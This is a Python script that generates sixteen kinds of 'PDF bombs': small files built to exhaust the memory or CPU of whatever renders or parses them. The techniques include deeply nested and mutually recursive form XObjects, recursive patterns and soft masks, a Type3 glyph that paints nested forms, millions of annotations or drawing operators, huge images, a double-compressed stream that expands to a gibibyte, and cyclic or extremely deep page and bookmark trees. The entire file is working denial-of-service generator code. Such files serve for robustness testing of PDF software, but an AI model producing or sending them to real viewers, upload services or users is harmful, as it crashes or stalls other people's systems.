"""make-bomb-pdf.py KIND FILE - small PDF files that cost much to whoever draws or reads them.

Without KIND, or with --help: the kinds, one a line, with what each does.
"""
import sys
import zlib

PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def stream(extra, data, packed=True):
    if packed:
        data, extra = zlib.compress(data, 9), extra + b"/Filter/FlateDecode"
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (extra, len(data), data)


def page(resources=b"", extra=b""):
    return b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<<%s>>%s>>" % (resources, extra)


def form(content, resources=b"", extra=b""):
    return stream(b"/Type/XObject/Subtype/Form/BBox[0 0 100 100]/Resources<<%s>>%s" % (resources, extra), content)


def write(path, objects):
    """Objects are numbered from 1; 1 is the catalog, 2 the pages."""
    out, table = [b"%PDF-1.7\n"], [b"0000000000 65535 f \n"]
    at = len(out[0])
    for number, body in enumerate(objects, 1):
        table.append(b"%010d 00000 n \n" % at)
        out.append(b"%d 0 obj\n%s\nendobj\n" % (number, body))
        at += len(out[-1])
    out.append(b"xref\n0 %d\n%s" % (len(table), b"".join(table)))
    out.append(b"trailer <</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(table), at))
    open(path, "wb").write(b"".join(out))


def document(*rest, first=None, catalog=b"<</Type/Catalog/Pages 2 0 R>>", content=b"", pages=PAGES):
    return [catalog, pages, first if first is not None else page(), stream(b"", content), *rest]


def chain(kind, use, depth, make):
    """Objects 5 to 5 + depth, each naming the next one under `kind`."""
    return [make(use, kind % (6 + i)) for i in range(depth)] + [make(b"0 0 9 9 re f", b"")]


def nested():
    """forms that paint the next one ten times, thirty deep"""
    forms = chain(b"/XObject<</F %d 0 R>>", b"/F Do " * 10, 30, form)
    return document(*forms, first=page(b"/XObject<</F 5 0 R>>"), content=b"/F Do")


def nested_in_picture():
    """the same, and the painting hides behind a picture in the content that never ends"""
    forms = chain(b"/XObject<</F %d 0 R>>", b"BI /W 1 /H 1 /BPC 8 /CS /G ID xEI ( \n" + b"/F Do " * 10, 30, form)
    return document(*forms, first=page(b"/XObject<</F 5 0 R>>"), content=b"/F Do")


def cycle():
    """two forms that paint each other"""
    forms = [form(b"/F Do /F Do", b"/XObject<</F 6 0 R>>"), form(b"/F Do /F Do", b"/XObject<</F 5 0 R>>")]
    return document(*forms, first=page(b"/XObject<</F 5 0 R>>"), content=b"/F Do")


def clique():
    """fourteen forms, each painting all others"""
    names = b"/XObject<<%s>>" % b"".join(b"/F%d %d 0 R" % (i, 5 + i) for i in range(14))
    forms = [form(b"".join(b"/F%d Do " % k for k in range(14) if k != i), names) for i in range(14)]
    return document(*forms, first=page(b"/XObject<</F 5 0 R>>"), content=b"/F Do")


def pattern():
    """patterns that are filled with patterns, twenty deep"""
    def tile(use, resources):
        head = b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep 9/YStep 9/Resources<<%s>>" % resources
        return stream(head, use)
    tiles = chain(b"/Pattern<</P %d 0 R>>", b"/Pattern cs /P scn " + b"0 0 9 9 re f " * 10, 20, tile)
    return document(*tiles, first=page(b"/Pattern<</P 5 0 R>>"), content=b"/Pattern cs /P scn 0 0 595 842 re f")


def mask():
    """soft masks whose forms set soft masks, twenty deep"""
    def group(use, resources):
        return form(use, resources, b"/Group<</S/Transparency/CS/DeviceGray>>")
    states = b"/ExtGState<</S<</SMask<</S/Luminosity/G %d 0 R>>>>>>"
    masks = chain(states, b"/S gs 0 0 9 9 re f " * 10, 20, group)
    return document(*masks, first=page(states % 5), content=b"/S gs 0 0 9 9 re f")


def glyphs():
    """a font whose only letter paints a nested form"""
    font = (b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 6 0 R>>"
            b"/Encoding<</Differences[97/a]>>/FirstChar 97/LastChar 97/Widths[9]/Resources<</XObject<</F 7 0 R>>>>>>")
    forms = [form(b"/F Do " * 10, b"/XObject<</F %d 0 R>>" % (8 + i)) for i in range(7)] + [form(b"0 0 9 9 re f")]
    return document(font, stream(b"", b"9 0 0 0 9 9 d1 /F Do"), *forms, first=page(b"/Font<</T 5 0 R>>"),
                    content=b"BT /T 9 Tf (" + b"a" * 1000 + b") Tj ET")


def notes():
    """a page with a million notes"""
    return document(first=page(extra=b"/Annots[%s]" % (b"5 0 R " * 1000000)),
                    *[b"<</Type/Annot/Subtype/Text/Rect[0 0 9 9]/Contents(x)>>"])


def pictures():
    """one picture of fifty million pixels, painted a thousand times"""
    head = b"/Type/XObject/Subtype/Image/Width 10000/Height 5000/BitsPerComponent 1/ColorSpace/DeviceGray"
    return document(stream(head, b"\0" * (1250 * 5000)), first=page(b"/XObject<</I 5 0 R>>"), content=b"/I Do " * 1000)


def inline():
    """a picture in the content that is 30,000 pixels wide"""
    data = b"BI /W 30000 /H 30000 /BPC 1 /CS /G /F /Fl ID " + zlib.compress(b"\0" * (3750 * 30000), 9) + b" EI"
    return document(content=data)


def content():
    """a page whose content unpacks to a gibibyte, from two kilobytes"""
    packer = zlib.compressobj(9)
    zeros = b"0" * (1 << 20)
    data = b"".join(packer.compress(zeros) for _ in range(1 << 10)) + packer.flush()
    data = zlib.compress(data, 9)
    head = b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>\nstream\n" % len(data)
    return document()[:3] + [head + data + b"\nendstream"]


def operators():
    """a page that strokes twenty million lines"""
    return document(content=b"0 0 m 9 9 l S " * 7000000)


def pages():
    """eleven thousand pages"""
    count = 11000
    kids = b" ".join(b"%d 0 R" % (5 + i) for i in range(count))
    tree = b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count)
    return document(*[page()] * count, pages=tree)


def tree():
    """a tree of pages that is a hundred thousand deep"""
    depth = 100000
    nodes = [b"<</Type/Pages/Kids[%d 0 R]/Count 1/Parent %d 0 R>>" % (6 + i, 4 + i) for i in range(depth)]
    top = b"<</Type/Pages/Kids[5 0 R]/Count 1>>"
    return document(*nodes, page(), pages=top, first=b"null")


def loop():
    """a tree of pages that leads back to itself"""
    return document(pages=b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>")


def outline():
    """bookmarks that follow each other in a circle"""
    top = b"<</Type/Outlines/First 6 0 R/Last 7 0 R/Count 2>>"
    marks = [b"<</Title(a)/Parent 5 0 R/Next 7 0 R/First 7 0 R/Last 7 0 R>>",
             b"<</Title(b)/Parent 5 0 R/Next 6 0 R/First 6 0 R/Last 6 0 R>>"]
    return document(top, *marks, catalog=b"<</Type/Catalog/Pages 2 0 R/Outlines 5 0 R>>")


KINDS = [nested, nested_in_picture, cycle, clique, pattern, mask, glyphs, notes, pictures, inline, content, operators,
         pages, tree, loop, outline]


def main():
    kinds = {k.__name__.replace("_", "-"): k for k in KINDS}
    if len(sys.argv) != 3 or sys.argv[1] not in kinds:
        print(__doc__)
        for name, kind in kinds.items():
            print("  %-18s %s" % (name, kind.__doc__))
        sys.exit(0 if sys.argv[1:] in ([], ["--help"]) else 2)
    write(sys.argv[2], kinds[sys.argv[1]]())


main()
